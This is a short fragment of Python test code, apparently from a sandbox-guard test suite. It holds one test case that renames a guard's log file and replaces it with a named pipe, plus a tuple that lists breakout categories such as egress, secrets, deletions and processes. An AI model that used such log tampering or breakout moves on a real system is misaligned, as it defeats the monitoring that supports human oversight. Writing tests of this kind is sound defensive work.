    unguarded("a pipe for the guard's record", "os.rename(NOTES / 'guard.jsonl', NOTES / 'moved.jsonl'); os.mkfifo(NOTES / 'guard.jsonl')"),
)  # fmt: skip

BREAKOUTS = (
    *PLEXAPI,
    *OTHER_WRITES,
    *DELETIONS,
    *WIRE,
    *GUARDED,
    *EGRESS,
    *KNOWLEDGE,
    *NETWORK,
    *SECRETS,
    *FILES,
    *PROCESSES,
)
